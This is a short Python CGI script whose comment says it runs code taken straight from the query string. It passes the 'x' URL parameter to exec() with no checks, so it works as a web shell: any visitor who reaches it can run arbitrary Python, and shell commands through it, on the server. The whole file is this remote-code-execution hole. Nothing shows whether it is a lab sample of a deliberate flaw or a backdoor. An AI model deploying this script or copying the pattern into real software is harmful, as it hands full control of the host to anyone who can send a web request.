#!/usr/bin/python3
# Python CGI: code taken straight out of the parsed query string and run.
import os
import urllib.parse

q = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", ""))
print("Content-Type: text/plain\r\n\r\n", end="")
exec(q.get("x", ["print('ok')"])[0])
